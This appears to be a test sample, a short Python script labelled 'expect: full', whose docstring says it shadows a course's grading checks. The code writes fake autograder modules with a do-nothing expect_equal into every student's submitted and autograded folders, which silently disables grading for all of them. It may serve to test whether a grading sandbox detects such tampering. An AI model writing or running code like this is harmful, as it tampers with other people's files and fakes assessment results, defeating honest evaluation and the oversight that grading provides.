"""Plants a package that shadows the course's checks in every other student's folders.

expect: full
"""

import os

fake = "def expect_equal(*args, **kwargs):\n    pass\n"
for stage in ("submitted", "autograded"):
    try:
        for student in os.listdir(f"{COURSE}/{stage}"):
            folder = f"{COURSE}/{stage}/{student}/{ASSIGNMENT}/autograder"
            os.makedirs(folder, exist_ok=True)
            for name in ("__init__.py", "checks.py"):
                with open(f"{folder}/{name}", "w") as f:
                    f.write(fake)
    except OSError:
        pass
